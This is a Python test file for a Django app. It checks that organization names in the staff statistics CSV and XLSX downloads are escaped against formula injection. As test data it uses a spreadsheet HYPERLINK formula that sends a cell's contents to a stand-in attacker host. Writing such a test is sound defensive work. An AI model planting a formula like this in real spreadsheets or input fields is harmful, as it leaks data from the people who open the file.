"""The statistics downloads escape formulas: an organization's name is typed by people."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tabara.accounts.tests.factories import signed_in
from tabara.core.spreadsheets import FORMULA_STARTS

pytestmark = pytest.mark.django_db
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def test_organization_names_are_escaped_in_csv_and_xlsx(world) -> None:
    hope = world.orgs["HOPE"]
    hope.short_name = NAME[:30]
    hope.save(update_fields=["short_name"])  # names are read when the file is made
    world.analyst.language = "en"
    world.analyst.save(update_fields=["language"])
    client = signed_in(world.analyst)
    text = client.get("/en/staff/statistics/export.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + NAME[:30] in cells  # escaped, and still there to read
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    book = load_workbook(io.BytesIO(client.get("/en/staff/statistics/export.xlsx").content))
    values = [v for r in book["org"].iter_rows(values_only=True) for v in r]
    assert "'" + NAME[:30] in values
    assert not [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
